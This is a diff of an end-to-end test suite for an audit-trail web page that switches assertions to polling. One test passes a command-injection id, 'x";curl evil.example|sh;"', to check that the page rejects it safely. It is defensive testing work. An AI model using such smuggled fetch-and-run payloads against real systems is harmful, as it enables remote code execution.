@@ -15,7 +15,7 @@ describe('the audit trail', () => {
     await page.goto('/app/audit')
     await expect.poll(() => page.locator('.notice').innerText()).toContain('healthcare, enterprise')
     await settled(page)
-    expect(await page.getByRole('alert').count()).toBe(0)
+    await expect.poll(() => page.getByRole('alert').count()).toBe(0)
     await page.getByText('Export the log').click()
     const saving = page.waitForEvent('download')
     await page.getByRole('button', { name: 'Save as JSON lines' }).click()
@@ -125,7 +125,7 @@ describe('the audit trail', () => {
     await page.locator('tbody a').first().click()
     const here = page.getByRole('region', { name: 'Checked here, in this browser' })
     await expect.poll(() => here.getByRole('status').innerText()).toBe('not valid')
-    expect(await here.innerText()).toContain('The trail says otherwise than what is signed: model.')
+    await expect.poll(() => here.innerText()).toContain('The trail says otherwise than what is signed: model.')
   })
 
   it('opens a call by its link, however long before the calls of the list it was', async () => {
@@ -175,7 +175,7 @@ describe('the audit trail', () => {
     await settled(page)
     await page.locator('tbody a').first().click()
     await expect.poll(() => page.getByRole('dialog').innerText()).toContain(HOSTILE)
-    expect(await page.locator('img').count()).toBe(0)
+    await expect.poll(() => page.locator('img').count()).toBe(0)
     expect(somebody.faults).toEqual([])
   })
 
@@ -210,8 +210,8 @@ describe('the audit trail', () => {
     const { page } = somebody
     await page.goto(`/app/audit?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
     await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
-    expect(await page.getByRole('dialog').locator('pre').count()).toBe(0)
-    expect(await page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
+    await expect.poll(() => page.getByRole('dialog').locator('pre').count()).toBe(0)
+    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
   })
 
   it('goes on with the next part where these days have more leaves than one file', async () => {
